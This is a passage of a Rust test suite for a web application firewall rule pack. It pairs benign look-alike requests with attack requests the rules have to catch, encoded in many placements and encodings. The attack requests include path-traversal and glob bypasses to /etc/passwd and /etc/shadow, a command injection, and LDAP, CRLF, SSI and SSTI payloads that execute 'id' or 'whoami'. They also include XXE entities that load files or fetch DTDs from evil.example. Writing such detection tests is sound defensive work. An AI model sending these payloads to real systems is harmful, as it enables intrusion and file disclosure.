        ("Link", "<https://cdn.example.com/app.css>; rel=preload; as=style"),
        ("Purpose", "prefetch"),
        ("X-Timezone", "Europe/Berlin"),
        ("X-Search-Filter", "color:red; size:10; sort=price_asc; online=true"),
        ("X-Comment", "Ring twice; leave it at the door & thanks! Cats' food on the left; return the box later"),
        ("X-Note", "I'd select the blue one -- or 2 -- from your shop; drop me a line"),
        ("X-Config-Path", "/srv/app/config/settings.yaml"),
        ("X-Debug-Command", "run tests | tee log"),
        ("X-Callback-Url", "http://localhost:3000/hooks/order"),
        ("X-Callback-Url", "http://127.0.0.1:8000/api/callback?id=7"),
        ("X-Callback-Url", "http://0.0.0.0:8080/logo.png"),
        ("X-Avatar", "https://0.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50"),
        ("X-Action", "whoami"),
        ("X-Command", "dir"),
        ("X-Cost", "$10 | $20 & more"),
        ("X-Template-Name", "invoice-{{id}}"),
        ("Referer", "https://learn.example.com/windows/win32/api/processthreadsapi"),
        ("X-Filter", "{\"price\":{\"min\":10,\"max\":50},\"sort\":\"-date\"}"),
    ] {
        v.push(hdr(n, val));
    }
    v.push(Req::get("/").header("Authorization", "Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6IjEyMyJ9.eyJzdWIiOiJqYW5lIiwic2NvcGUiOiJyZWFkIn0.c2lnbmF0dXJl"));
    v.push(Req::get("/").header("Cookie", "cart=eyJpdGVtcyI6IDN9; consent=%7B%22ads%22%3A%20false%2C%20%22stats%22%3A%20true%7D; lang=en-GB"));
    v.push(Req::get("/").header("Cookie", "note=see you at 5; path=/files/report.pdf"));
    for p in [
        "/api/v1/users/42/orders",
        "/blog/2024/10/why-select-matters",
        "/blog/union-station-select-seats",
        "/docs/sql/drop-table-syntax",
        "/products/cat-food/wet",
        "/wiki/Cmd.exe",
        "/wiki/Null_(SQL)",
        "/wiki/Select_(SQL)",
        "/api/whoami",
        "/api/v2/tasklist",
        "/odata/$metadata",
        "/odata/Products/$count",
        "/api/$batch",
        "/_api/web/lists",
        "/@jane/posts",
        "/~jane/index.html",
        "/search/c%2B%2B",
        "/tag/rock%26roll",
        "/images/2024/10/photo%20(1).jpg",
        "/share/eyJ1c2VyIjoxfQ",
        "/reset-password/Zm9vQGV4YW1wbGUuY29t",
        "/verify/aGVsbG8gd29ybGQsIHNlbGVjdCB5b3VyIHNlYXRz",
        "/cart;jsessionid=ABC123/items",
        "/v2/library/nginx/manifests/latest",
        "/.well-known/openid-configuration",
        "/oauth2/callback",
        "/files/2024/Q1%20report%20%E2%80%93%20final.pdf",
        "/static/js/chunk-vendors.3f2a1c9e.js",
        "/blog/the-0x7f-byte-explained",
        "/downloads/tools/bin/shell-tutorial.pdf",
        "/kb/how-to-run-phpinfo",
        "/kb/what-is-file-url",
        "/proxy/https://cdn.example.com/logo.png",
        "/web/2020/https://example.com/",
        "/a//b///c",
    ] {
        v.push(Req::get(p));
    }
    // Argument values close to the new rules.
    for s in [
        "http://localhost:3000/callback",
        "http://127.0.0.1:8000/",
        "http://0.0.0.0:5000/",
        "My app runs on http://localhost:8080 and http://[2001:db8::1]/ is the staging box",
        "file:///Users/jane/report.html",
        "file:///C:/Users/Jane/Documents/cv.pdf",
        "https://12345678.example.net/",
        "http://10.0.0.1/admin",
        "call 0177 000 1234",
        "include the base64_decode output in the report",
        "I visited the Jones'; for dinner we had fish",
        "He said 'no'; return it tomorrow",
        "const a = 'x'; return a;",
        "let s = \"hi\"; const t = s;",
        "'quoted'; then more text",
        "db.users.find({name: 'jane'})",
        "this.value = 'x'; this.render();",
        "Price is $10, not $20; see the FAQ",
    ] {
        v.push(q(s));
    }
    v.push(form(&[("code", "function f(x) { return x * 2; }\nconsole.log(f(2));"), ("lang", "js")]));
    v.push(json(r#"{"webhook":"http://localhost:3000/hooks","notes":"it's fine; see 'docs'"}"#));
    v
}

/// Benign requests close to the path bypasses of `path_bypasses()`: path
/// parameters on ordinary paths, globs and quotes away from sensitive names,
/// names that only start like one. `(what it is, request)`.
fn path_look_alikes() -> Vec<(&'static str, Req)> {
    vec![
        ("a directory named etc-something", Req::get("/etc-guide/passwords-policy")),
        // Opened as a path, a question naming the file is no file at all
        // (95-confirm.conf): a Linux help search, not a disclosure.
        ("the file named in prose", q("what is etc/passwd")),
        ("a session id as a path parameter", Req::get("/api/v1;jsessionid=abc/items")),
        ("a session id on the last segment", Req::get("/products;jsessionid=ABC123")),
        ("parameters on several segments", Req::get("/shop;jsessionid=ABC/cart;v=2/items")),
        ("a matrix parameter", Req::get("/cars;color=red;year=2024/models")),
        ("etc as a word in a path", Req::get("/docs/etc/passwords-guide")),
        ("etc; in a path", Req::get("/blog/etc;/password-tips")),
        ("a glob argument", raw("/files?glob=*.txt")),
        ("a recursive glob", arg("include", "src/**/*.ts")),
        ("a route pattern", arg("route", "/users/*/orders/*")),
        ("a cache-busting argument", raw("/static/app.js?v=1")),
        ("a question with an apostrophe", q("what's new? anything for /etc?")),
        ("a question about passwords", q("how do I change my password?")),
        ("a question about etc", q("books, pens, etc?")),
        ("a quote in a path", Req::get("/wiki/O'Reilly_(publisher)")),
        ("a quoted path", arg("dir", "'/home/jane/photos'")),
        ("a wildcard search", q("host* OR group*")),
        ("a sort list", raw("/api/v1/items?sort=-date&fields=id,name,group")),
    ]
}

/// The path bypasses of issue #10 (point 6), each in the URL path and in a
/// query argument where it means something there, and the variants that
/// were already blocked and must stay so: `(what it is, request)`.
fn path_bypasses() -> Vec<(&'static str, Req)> {
    vec![
        // Path parameters (Tomcat and Jetty drop ";..." from each segment).
        // A file argument is no URL, so there they mean nothing.
        ("path parameter between segments", Req::get("/etc;/passwd")),
        ("path parameter with a value", Req::get("/etc;jsessionid=0123ABCD/passwd")),
        ("path parameter after the name", Req::get("/etc/passwd;x")),
        ("dot segment with a parameter", Req::get("/.;/etc/passwd")),
        ("dot segment with a parameter inside", Req::get("/etc/.;/passwd")),
        ("empty segment with a parameter", Req::get("/etc/;/passwd")),
        // Shell globs and quotes, in arguments and paths.
        ("? glob, argument", raw("/download?file=/etc/pa??wd")),
        ("? glob, path", Req::get("/etc/pa%3F%3Fwd")),
        ("* glob, argument", raw("/download?file=/etc/pas*d")),
        ("* glob, path", Req::get("/etc/pas*d")),
        ("globbed directory and name, argument", raw("/download?file=/e?c/p*wd")),
        ("globbed directory and name, path", Req::get("/e%3Fc/p*wd")),
        ("empty quote pairs, argument", raw("/download?file=/et''c/pa\"\"sswd")),
        ("empty quote pairs, encoded argument", raw("/download?file=/et%27%27c/pa%22%22sswd")),
        ("empty quote pairs, path", Req::get("/et''c/pa%22%22sswd")),
        ("bracket glob, argument", raw("/download?file=/etc/pass%5Bw%5Dd")),
        ("question marks only in the directory, argument", raw("/download?file=/???/??ss??")),
        ("backslash escapes, argument", raw("/download?file=/et%5Cc/pa%5Csswd")),
        ("double-encoded glob, argument", raw("/download?file=/etc/pa%253F%253Fwd")),
        ("glob with a path parameter, path", Req::get("/etc;x/pa%3F%3Fwd")),
        ("glob in a command, argument", arg("host", "127.0.0.1;cat /et''c/sh*dow")),
        ("glob in a cookie", Req::get("/").header("Cookie", "tpl=/e?c/pa?swd")),
        ("glob in a form", form(&[("path", "/etc/sudo*")])),
        // Already blocked before, each in both places.
        ("double slash, path", Req::get("//etc//passwd")),
        ("double slash, argument", arg("file", "/etc//passwd")),
        ("dot segment, path", Req::get("/etc/./passwd")),
        ("dot segment, argument", arg("file", "/etc/./passwd")),
        ("encoded letter, path", Req::get("/%65tc/passwd")),
        ("encoded letter, argument", raw("/download?file=/%65tc/passwd")),
        ("encoded letter encoded twice, argument", raw("/download?file=/%2565tc/passwd")),
        ("upper case, path", Req::get("/ETC/PASSWD")),
        ("upper case, argument", arg("file", "/ETC/PASSWD")),
        ("NUL and extension, path", Req::get("/etc/passwd%00.jpg")),
        ("NUL and extension, argument", raw("/download?file=/etc/passwd%00.jpg")),
        ("encoded slash in traversal, path", Req::get("/static/..%2f..%2fetc/passwd")),
        ("encoded slash in traversal, argument", raw("/download?file=..%2f..%2fetc%2fpasswd")),
        ("double encoding, path", Req::get("/static/%252e%252e/%252e%252e/etc/passwd")),
        ("double encoding, argument", raw("/download?file=%252e%252e%252fetc%252fpasswd")),
        ("overlong UTF-8, path", Req::get("/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd")),
        ("overlong UTF-8, argument", raw("/download?file=%c0%ae%c0%ae%c0%afetc%c0%afpasswd")),
        ("backslash, path", Req::get("/static/..%5c..%5cetc%5cpasswd")),
        ("backslash, argument", arg("file", "..\\..\\etc\\passwd")),
        ("%u escapes, path", Req::get("/%u002e%u002e/%u002e%u002e/etc/passwd")),
        ("%u escapes, argument", raw("/download?file=%u002e%u002e%u002fetc%u002fpasswd")),
        ("the file after a traversal, in words", q("what is ../../etc/passwd")),
    ]
}

// ---------------------------------------------------------------------------
// LDAP, CRLF, SSI, SSTI and XXE (55-ldap … 59-xxe)

/// `s` as the body of a JSON string: quotes, backslashes and control
/// characters escaped (`unicode`: every character as `\uXXXX`).
fn json_str(s: &str, unicode: bool) -> String {
    let mut out = String::new();
    for c in s.chars() {
        match c {
            _ if unicode => out.push_str(&format!("\\u{:04x}", u32::from(c))),
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if u32::from(c) < 0x20 => out.push_str(&format!("\\u{:04x}", u32::from(c))),
            c => out.push(c),
        }
    }
    out
}

/// `s` with every character as an XML character reference.
fn xml_refs(s: &str) -> String {
    s.chars().map(|c| format!("&#x{:x};", u32::from(c))).collect()
}

/// `s` with `&`, `<` and `>` escaped for XML text.
fn xml_text(s: &str) -> String {
    s.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;")
}

/// `payload` in every placement and encoding the class rules cover:
/// `(rule id, request)`, where `header` is the phase-1 rule (headers, the
/// path) and `args` the phase-2 rule (arguments, cookies, XML text). A
/// header or cookie cannot carry CR/LF or `;` as such: there they are
/// percent-encoded, as an application would have to decode them.
///
/// Base64 (standard and url-safe) only where the decoding layer can see
/// it: 12 symbols or more (`base64DecodeAuto`'s minimum), as a whole
/// value, one XML element's text, or a bearer token.
fn everywhere(header: i64, args: i64, payload: &str) -> Vec<(i64, Req)> {
    let b64_std = b64(payload.as_bytes(), false);
    let b64_url = b64(payload.as_bytes(), true);
    let in_header = payload.replace('\r', "%0D").replace('\n', "%0A");
    let in_cookie = in_header.replace(';', "%3B").replace(' ', "%20");
    let mut v = vec![
        (args, q(payload)),
        (args, raw(&format!("/search?q={}", enc(&enc(payload))))),
        (args, form(&[("name", "Jane"), ("comment", payload)])),
        (args, json(&format!(r#"{{"user":"jane","query":"{}","page":1}}"#, json_str(payload, false)))),
        (args, json(&format!(r#"{{"query":"{}"}}"#, json_str(payload, true)))),
        (args, xml(&format!("<?xml version=\"1.0\"?><order><item>{}</item></order>", xml_text(payload)))),
        (args, xml(&format!("<order><item>{}</item></order>", xml_refs(payload)))),
        (args, Req::get("/account").header("Cookie", &format!("theme=dark; pref={in_cookie}; sid=4f1c2a"))),
        (header, Req::get("/account").header("X-Search-Filter", &in_header)),
        (header, Req::get("/account").header("X-Search-Filter", &enc(&enc(payload)))),
        (header, Req::get("/").header("User-Agent", &in_header)),
        (header, Req::get("/").header("Referer", &format!("https://shop.example.com/{}", enc(payload)))),
        (header, Req::get(&format!("/files/{}/view", enc(payload)))),
        (header, Req::get(&format!("/files/{}/view", enc(&enc(payload))))),
    ];
    if payload.is_ascii() {
        v.push((args, q_bytes(&utf16le(payload))));
    }
    let mut encoded = Vec::new();
    if b64_url.len() >= 12 {
        encoded.push(b64_url);
    }
    if b64_std.trim_end_matches('=').len() >= 12 {
        encoded.push(b64_std);
    }
    for e in encoded {
        v.push((args, q(&e)));
        v.push((args, json(&format!(r#"{{"query":"{e}"}}"#))));
        v.push((args, Req::get("/account").header("Cookie", &format!("theme=dark; pref={e}"))));
        v.push((header, Req::get("/account").header("X-Search-Filter", &e)));
        // One XML element among others (XML://text()); credentials after
        // an auth scheme.
        v.push((args, xml(&format!("<order><id>7</id><note>{e}</note></order>"))));
        v.push((header, Req::get("/account").header("Authorization", &format!("Bearer {e}"))));
    }
    v
}

/// Attacks the class rules must catch (55-ldap, 56-crlf, 57-ssi, 58-ssti,
/// 59-xxe): each payload in every placement and encoding of `everywhere`.
fn class_attacks() -> Vec<(i64, Req)> {
    let mut v: Vec<(i64, Req)> = Vec::new();
    let mut add = |header: i64, args: i64, payloads: &[&str]| {
        for p in payloads {
            v.extend(everywhere(header, args, p));
        }
    };
    // 55-ldap
    add(4255100, 4255110, &[
        "*)(uid=*))(|(uid=*",
        "jsmith)(|(memberOf=cn=admins,ou=groups,dc=example,dc=com)",
        "admin)(&(objectClass=person)",
        "x)(!(cn=nobody)",
        "*)(&)",
        "admin)(cn=*)",
        "*)(mail=*)%00",
        "admin*))%00",
        "*)( | ( uid = *",
        "*(|(mail=*))",
        "admin*)((|userpassword=*)",
        "(|(objectClass=*))",
    ]);
    // 56-crlf
    add(4256100, 4256110, &[
        "jane@example.org\r\nBcc: a@spam.example, b@spam.example",
        "en\r\nSet-Cookie: sid=attacker; Path=/",
        "/home\r\nLocation: https://evil.example/login",
        "de\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
        "x\nX-Forwarded-Host: evil.example",
        "Your order is ready\r\nBcc: victim@example.net",
        "fr\r\n\r\n<script>alert(1)</script>",
        "a@b.example%0d%0aCc:%20c@d.example",
        "jane@example.org\nReply-To: phish@evil.example",
        "report\nContent-Type: text/html",
        "nl\r\nRefresh: 0; url=https://evil.example/",
        "us\rAccess-Control-Allow-Origin: https://evil.example",
        "%0d%0aSet-Cookie:crlf=injection",
        "\u{560a}\u{560d}Set-Cookie:crlf=injection",
    ]);
    // 57-ssi
    add(4257100, 4257110, &[
        "<!--#exec cmd=\"id\" -->",
        "<!--# include file=\"/etc/passwd\" -->",
        "<!--#echo var=\"DATE_LOCAL\" -->",
        "<!--#set var=\"x\" value=\"1\" --><!--#printenv -->",
        "<!--#if expr=\"$QUERY_STRING\" -->a<!--#endif -->",
        "<!--#fsize file=\"index.html\" -->",
        "<esi:include src=\"http://evil.example/frag\"/>",
        "<ESI:vars>$(HTTP_COOKIE)</ESI:vars>",
    ]);
    // 58-ssti
    add(4258100, 4258110, &[
        "{{7*7}}",
        "{{ 7 * '7' }}",
        "${7*7}",
        "#{7*7}",
        "*{7*7}",
        "${{7*7}}",
        "<%= 7*7 %>",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{ lipsum.__globals__['os'].popen('id').read() }}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
        "{{ request.application.__globals__.__builtins__.__import__('os') }}",
        "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}",
        "{{['id']|filter('system')}}",
        "{{constructor.constructor('alert(1)')()}}",
        "{{range.constructor(\"return process\")()}}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "#{''.getClass().forName('java.lang.Runtime')}",
        "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
        "${pageContext.getClass().forName('java.lang.Runtime')}",
        "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "#set($rt=$class.inspect('java.lang.Runtime'))$rt",
        "<%= system('whoami') %>",
        "<%= File.read('/etc/passwd') %>",
        "<%= Dir.entries('/') %>",
        "<%= `id` %>",
        "<% require('child_process').execSync('id') %>",
        "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
        "{php}echo `id`;{/php}",
        "{system('id')}",
        "{$smarty.version}",
        "@(7*7)",
        "${{<%[%'\"}}%\\.",
        "{{ config.items() }}",
        "{{settings.SECRET_KEY}}",
    ]);
    // 59-xxe
    add(4259100, 4259110, &[
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><r>&x;</r>",
        "<!DOCTYPE d [<!ENTITY % dtd SYSTEM \"http://evil.example/a.dtd\"> %dtd;]><d/>",
        "<!DOCTYPE a SYSTEM \"http://evil.example/a.dtd\"><a/>",
        "<!DOCTYPE a SYSTEM \"/var/www/private.dtd\"><a/>",
        "<!DOCTYPE a PUBLIC \"-//X//Y\" \"jar:file:///tmp/x.zip!/a.dtd\"><a/>",
        "<!DOCTYPE x [<!ENTITY e PUBLIC \"-//A//B\" \"ftp://evil.example/e\">]><x>&e;</x>",
        "<!DOCTYPE b [<!ENTITY a \"aaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;\">]><b>&b;</b>",
        "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></r>",
    ]);
    // A header line in a one-line mail field, whatever its first line.
    let header_line = "Order question\r\nCc: all-staff@shop.example\r\nX-Mailer: bulk";
    v.push((4256120, form(&[("name", "Dana"), ("subject", header_line)])));
    v.push((4256120, form(&[("name", "Dana"), ("subject", &b64(header_line.as_bytes(), false))])));
    v.push((4256120, json(&format!(r#"{{"contact":{{"subject":"{}"}}}}"#, json_str(header_line, false)))));
    v.push((4256120, form(&[("email", "jane@example.org\nBcc: list@spam.example")])));
    v.push((4256120, raw("/contact?reply_to=x%250d%250aBcc:%2520a@b.example")));
    // XXE in the request body itself, as sent and in UTF-16.
    let body = "<?xml version=\"1.0\"?>\n<!DOCTYPE order [\n  <!ENTITY secret SYSTEM \"file:///etc/passwd\">\n]>\n<order><item>&secret;</item></order>";
    v.push((4259120, xml(body)));
    v.push((4259120, xml("<!DOCTYPE q [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]><q/>")));
    v.push((4259120, xml("<?xml version=\"1.0\"?><!DOCTYPE svg SYSTEM \"file:///dev/random\"><svg/>")));
    v.push((4259120, xml("<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"http://evil.example/\"/></r>")));
    v.push((4259120, xml("<!DOCTYPE l [<!ENTITY l0 \"ha\"><!ENTITY l1 \"&l0;&l0;&l0;\"><!ENTITY l2 \"&l1;&l1;&l1;\">]><l>&l2;</l>")));
    let mut utf16 = vec![0xff, 0xfe];
    utf16.extend(body.replace("<?xml version=\"1.0\"?>", "<?xml version=\"1.0\" encoding=\"UTF-16\"?>").encode_utf16().flat_map(u16::to_le_bytes));
    let mut r = Req::post("/api/v1/orders.xml", "text/xml", &utf16);
    r.needs = Needs::Xml;
    v.push((4259120, r));
    v.push((4259120, {
        let mut r = Req::post("/soap", "application/soap+xml; charset=utf-8", body.as_bytes());
        r.needs = Needs::Xml;
        r
    }));
    v
}

/// Benign requests close to what the class rules look for: the whole pack
/// must match nothing on them.
fn class_look_alikes() -> Vec<Req> {
    let textarea = [
        // Parentheses, asterisks and equals signs in prose, code and data.
        "(see above) (and below)",
        "Call me on (555) 123-4567 (mobile) or (555) 765-4321 (work)",
        "f(x)(y) is a curried call; so is g(a)(b=1)",
        "rating (*)(excl. VAT=19%)",
        "(x=1)(y=2)",
        "Our LDAP filter (objectClass=*) returns every entry; what about (&(uid=jane)(ou=people))?",
        "5 * 3 = 15 (roughly)",
        "a*(b+c) = a*b + a*c",
        // Line breaks in messages, header-like lines in prose.
        "Hello,\r\nI would like to order two chairs.\r\nThanks, Jane",
        "Agenda\nLocation: town hall\nTime: 7pm",
        "Hi team,\r\nSubject: hello\r\nSee you on Monday",
        "Notes\nTo: the team\nFrom: Jane",
        "Results\nX-Ray: clear\nBlood test: fine",
        "Hi,\nFrom: jane@example.org\nTo: support@shop.example\nSubject: my order",
        "Subject: hello",
        "Content-Type: text/html",
        "HTTP/1.1 200 OK\nContent-Type: text/html\nContent-Length: 12",
        "headers:\n  Content-Type: application/json\n  X-Request-Id: 42",
        "Thanks!\n\n<b>bold</b> and <i>italic</i>",
        "# Release notes\n\n- Fixed *login*\n- Added `export`",
        "Dear support,\r\n\r\nmy order #1234 never arrived.\r\nCc: my manager\r\n",
        // SSI and ESI named in prose, ordinary comments.
        "How do I enable Server Side Includes (SSI) on Apache? Is the include directive still used?",
        "<!-- TODO: fix the footer --> <p>Footer</p>",
        "#include <stdio.h>\nint main(void) { return 0; }",
        "see issue #exec-42 and the #include-what-you-use notes",
        "Edge Side Includes (ESI) are processed by Varnish and Akamai",
        // Templates a template editor or a docs page holds.
        "Hello {{name}}, your order {{order.id}} ships {{ship_date}}",
        "{{#each items}}<li>{{this.title}}</li>{{/each}}{{> footer}}",
        "{% for item in cart.items %}{{ item.title | escape }} x {{ item.quantity }}{% endfor %}",
        "{% if user %}Welcome back{% else %}Sign in{% endif %}",
        "{{ price | money_with_currency }} {{{raw_html}}}",
        "export PATH=${HOME}/bin:${PATH}",
        "const msg = `Hello ${user.firstName}, you have ${count} new messages`;",
        "<%= link_to 'Home', root_path %> <% @items.each do |item| %><%= item.name %><% end %>",
        "def __init__(self, name):\n    self.name = name\n    print(self.__class__.__name__)",
        "Python's __subclasses__() and __globals__ explained",
        "#set is a Velocity directive; ${7} and {{7}} are fine",
        "Total: {{ 7 }} items, {{ count * price }}",
        "Use ${jdbc.url} and #{bean.property} in Spring config",
        "<a href=\"${pageContext.request.contextPath}/login\">Log in</a>",
        "const m = `${/(\\d+)/.exec (s)[1]} of ${fn.invoke(x)}`;",
        "{{ request.environ['REMOTE_ADDR'] }} {{ dump(app) }}",
        // XXE named in prose.
        "What is an XXE (XML external entity) attack? It abuses entity declarations in a DTD.",
        // Shapes found in source code and documentation that the first
        // drafts of these rules matched.
        "--NMuMz9nt05w80d4+\nContent-Type: text/plain; charset=us-ascii\nContent-Disposition: inline",
        "--BOUNDARY\r\nContent-Type: message/rfc822\r\nMIME-Version: 1.0",
        "local opt_var=opt__${cmd//-/_}__${prev//-/_}",
        "alias pi for k in %1.__dict__.keys(): print(f\"%1.{k} = {%1.__dict__[k]}\")",
        "if ($argc < 2) {\n    system (\"ls -l\");\n}\nelse { exec ('perldoc', $0); }",
        "Borrowing ( &), Bounds ( X: Y), enum, impl (!)",
    ];
    let mut v: Vec<Req> = Vec::new();
    // One-line mail fields without a header line after a break.
    v.push(form(&[("email", "jane@example.org"), ("subject", "Re: Order 58123: delivery date?")]));
    v.push(form(&[("subject", "Order 58123\r\nthanks for the quick reply")]));
    v.push(json(r#"{"report":{"from":"2026-01-01","to":"2026-01-31"},"mail":{"subject":"Weekly: sales"}}"#));
    for t in textarea {
        v.push(form(&[("name", "Jane"), ("message", t)]));
        v.push(json(&format!(r#"{{"title":"Notes","body":"{}"}}"#, json_str(t, false))));
    }
    // A variable slice, a JS condition and a subquery named in prose.
    v.push(q("Use ${name:0:1} to get the initial, and ${name:1} for the rest"));
    v.push(json(r#"{"code":"if (role == 'admin' || this.isOwner) { show(); }"}"#));
    v.push(q("(select one option) or (select all that apply)"));
    // Referers and Origins browsers send, SSRF-looking parts included.
    for (h, value) in [("Referer", "https://www.example.com/search?q=gopher%3A%2F%2F+protocol"), ("Origin", "null"), ("Referer", "http://localhost:3000/cart")] {
        v.push(Req::get("/").header(h, value));
    }
    for s in ["(555) 123-4567 (mobile)", "(x=1)(y=2)", "{{name}}", "${HOME}", "Subject: hello", "union station select seats"] {
        v.push(q(s));
        v.push(Req::get("/").header("X-Note", s));
    }
    v.push(q("jane.doe+shop@example.com"));
    v.push(q(&b64("Hello {{name}}, see you (tomorrow) at 5".as_bytes(), false)));
    v.push(Req::get("/wiki/Foo_(bar)_(baz)"));
    v.push(Req::get("/templates/%7B%7Bname%7D%7D/preview"));
    v.push(Req::get("/").header("Cookie", "tmpl=%7B%7Bname%7D%7D; theme=dark"));
    // XML bodies with a DOCTYPE that loads nothing (4259120 reads them raw);
    // in a form field the pack's XSS rules (4215210, 4250100) flag markup
    // like this anyway.
    v.push(xml("<?xml version=\"1.0\"?>\n<!DOCTYPE note>\n<note><to>Jane</to><body>Line one\r\nLine two</body></note>"));
    v.push(xml("<!DOCTYPE html><html><head><title>Hi</title></head><body>Hello</body></html>"));
    v.push(xml("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html><body>Hi</body></html>"));
    v.push(xml("<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg><title>logo</title></svg>"));
    v.push(xml("<?xml version=\"1.0\"?><!DOCTYPE rss [<!ENTITY % HTMLlat1 PUBLIC \"-//W3C//ENTITIES Latin 1 for XHTML//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml-lat1.ent\">]><rss version=\"2.0\"><channel><title>News</title></channel></rss>"));
    v.push(xml("<!DOCTYPE note [<!ENTITY company \"Example Ltd\"><!ENTITY copy \"&#169;\"><!ENTITY sig \"&company; &copy; 2026\">]><note>&sig;</note>"));
    v.push(xml("<?xml version=\"1.0\"?><!DOCTYPE note [<!ENTITY company \"Example Ltd\">]><note>&company; says hi</note>"));
    v.push(xml("<?xml version=\"1.0\"?><feed><entry><title>{{title}} and ${HOME}</title></entry></feed>"));
    v
}

// ---------------------------------------------------------------------------
// Rule text

/// One rule (a chain counts as one) as written in a file.
struct RuleText {
    file: String,
    /// The action lists of the rule and of its chain links.
    actions: Vec<String>,
}

impl RuleText {
    fn head(&self) -> &str {
        &self.actions[0]
    }

    fn all(&self) -> String {
        self.actions.join(",")
    }

    fn id(&self) -> i64 {
        let a = self.head();
        let start = a.find("id:").unwrap_or_else(|| panic!("{}: rule without id: {a}", self.file)) + 3;
        a[start..].chars().take_while(char::is_ascii_digit).collect::<String>().parse().unwrap()
    }

    /// Values of `name:'...'` (or `name:...` unquoted) in all action lists.
    fn values(&self, name: &str) -> Vec<String> {
        let all = self.all();
        let mut out = Vec::new();
        let key = format!("{name}:");
        let mut rest = all.as_str();
        while let Some(p) = rest.find(&key) {
            let before = rest[..p].chars().last();
            rest = &rest[p + key.len()..];
            if before.is_some_and(|c| c != ',' && !c.is_whitespace() && c != '"') {
                continue;
            }
            let v = if let Some(r) = rest.strip_prefix('\'') {
                r.split('\'').next().unwrap_or("").to_string()
            } else {
                rest.split(',').next().unwrap_or("").trim().to_string()
            };
            out.push(v);
        }
        out
    }

    fn has_action(&self, name: &str) -> bool {
        self.actions.iter().any(|a| a.split(',').any(|x| x.trim() == name))
    }
}

/// Every rule of the pack's files, chains grouped.
fn rule_texts() -> Vec<RuleText> {
    let (confs, _) = pack_files();
    let mut out: Vec<RuleText> = Vec::new();
    for (file, bytes) in confs {
        let text = String::from_utf8(bytes).unwrap();
        let mut logical: Vec<String> = Vec::new();
        let mut cur = String::new();
        for line in text.lines() {
            if cur.is_empty() && line.trim_start().starts_with('#') {
                continue;
            }
            match line.strip_suffix('\\') {
                Some(l) => cur.push_str(l),
                None => {
                    cur.push_str(line);
                    if !cur.trim().is_empty() {
                        logical.push(cur.trim().to_string());
                    }
                    cur.clear();
                }
            }
        }
        assert!(!logical.iter().any(|l| l.to_ascii_lowercase().starts_with("secdefaultaction")), "{file}: SecDefaultAction is not allowed in the pack");
        let mut in_chain = false;
        for l in logical {
            if !(l.starts_with("SecRule ") || l.starts_with("SecAction")) {
                continue;
            }
            let end = l.rfind('"').unwrap_or_else(|| panic!("{file}: no action list in {l}"));
            let start = l[..end].rfind('"').unwrap_or_else(|| panic!("{file}: no action list in {l}")) + 1;
            let actions = l[start..end].split_whitespace().collect::<Vec<_>>().join(" ");
            let chains = actions.split(',').any(|x| x.trim() == "chain");
            if in_chain {
                out.last_mut().unwrap().actions.push(actions);
            } else {
                out.push(RuleText { file: file.clone(), actions: vec![actions] });
            }
            in_chain = chains;
        }
    }
    out
}

const ATTACK_TAGS: &[&str] = &[
    "attack-sqli",
    "attack-xss",
    "attack-rce",
    "attack-lfi",
    "attack-rfi",
    "attack-php",
    "attack-java",
    "attack-protocol",
    "attack-ssrf",
    "attack-nosql",
    "attack-ldap",
    "attack-crlf",
    "attack-ssi",
    "attack-ssti",
    "attack-xxe",
    "scanner",
];

/// Ids of the detection rules (those that add to the score).
fn detection_ids() -> BTreeSet<i64> {
    rule_texts().iter().filter(|r| r.all().contains("tx.portcullis_inbound_score=+")).map(RuleText::id).collect()
}

// ---------------------------------------------------------------------------
// Tests

#[test]
fn rules_follow_the_pack_conventions() {
    let rules = rule_texts();
    let mut ids = BTreeSet::new();
    let mut detections = 0;
    for r in &rules {
        let id = r.id();
        let file_no: i64 = r.file.rsplit('/').next().unwrap()[..2].parse().unwrap_or_else(|_| panic!("{}: name starts with two digits", r.file));
        assert!((4_200_000..=4_299_999).contains(&id), "{id}: outside 4200000-4299999");
        assert_eq!(id / 1000 % 100, file_no, "{id} in {}: digits 3-4 of the id are the file's number", r.file);
        assert!(ids.insert(id), "duplicate id {id}");
        assert!(r.head().contains("phase:"), "{id}: no phase");
        if !r.all().contains("tx.portcullis_inbound_score=+") {
            continue;
        }
        detections += 1;
        let head = r.head();
        assert!(r.has_action("pass"), "{id}: detection rules pass (the blocking rules decide)");
        assert!(!r.has_action("deny") && !r.has_action("block"), "{id}: detection rules do not block");
        assert!(r.has_action("log"), "{id}: detection rules log");
        assert!(head.contains("phase:1") || head.contains("phase:2"), "{id}: request phases only");
        let msg = r.values("msg");
        assert!(msg.len() == 1 && !msg[0].is_empty(), "{id}: one msg");
        let logdata = r.values("logdata");
        assert!(logdata.len() == 1 && logdata[0].contains("%{"), "{id}: logdata showing what matched");
        let sev = r.values("severity");
        assert_eq!(sev.len(), 1, "{id}: one severity");
        let points = match sev[0].as_str() {
            "CRITICAL" => 5,
            "ERROR" => 4,
